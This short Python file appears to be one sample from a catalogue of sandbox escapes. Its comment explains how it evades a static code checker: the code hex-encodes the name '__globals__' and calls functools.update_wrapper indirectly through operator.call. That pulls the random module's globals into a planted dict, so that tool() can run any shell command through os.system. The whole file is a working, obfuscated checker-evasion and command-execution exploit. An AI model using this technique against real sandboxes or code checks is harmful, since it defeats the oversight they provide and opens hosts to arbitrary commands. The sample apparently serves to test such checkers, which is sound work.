# family: computed
# Escape: functools.update_wrapper(wrapper, wrapped, assigned, updated) does
# getattr(wrapper, n).update(getattr(wrapped, n)) for each n in updated. The checker only checks these names
# when update_wrapper is called by name; through operator.call the decoded "__globals__" is never seen, and
# the dict we planted receives random's module globals (with "_os").
import functools
import operator
import random
import types


def tool(cmd: str) -> int:
    name = bytes.fromhex("5f5f676c6f62616c735f5f").decode()
    stolen: dict = {}
    operator.call(functools.update_wrapper, types.SimpleNamespace(**{name: stolen}), random.Random.__init__, (), (name,))
    return stolen["_os"].system(cmd)
